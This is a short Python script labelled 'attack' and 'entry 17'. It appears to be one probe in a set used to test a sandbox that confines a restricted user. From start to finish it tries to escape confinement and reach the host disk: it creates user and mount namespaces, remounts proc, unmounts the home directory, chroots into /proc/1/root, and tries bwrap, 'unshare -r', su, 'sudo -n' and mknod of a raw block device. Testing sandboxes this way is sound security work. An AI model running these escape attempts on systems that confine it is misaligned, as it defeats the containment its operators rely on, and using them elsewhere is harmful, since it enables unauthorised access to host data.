# attack: crea espacios de nombres y monta cosas para ver más disco
# entry: 17

import ctypes, os, subprocess
libc = ctypes.CDLL(None, use_errno=True)
print(libc.unshare(0x10000000 | 0x00020000), ctypes.get_errno())
print(libc.mount(b"proc", b"/tmp", b"proc", 0, b""), ctypes.get_errno())
print(libc.umount2(b"/home/alumno", 2), ctypes.get_errno())
print(libc.chroot(b"/proc/1/root"), ctypes.get_errno())
for command in (["bwrap", "--bind", "/", "/", "ls"], ["unshare", "-r", "ls"], ["su"], ["sudo", "-n", "id"], ["mknod", "/tmp/disk", "b", "8", "0"]):
    try:
        print(subprocess.run(command, capture_output=True, timeout=5))
    except OSError as error:
        print(error)
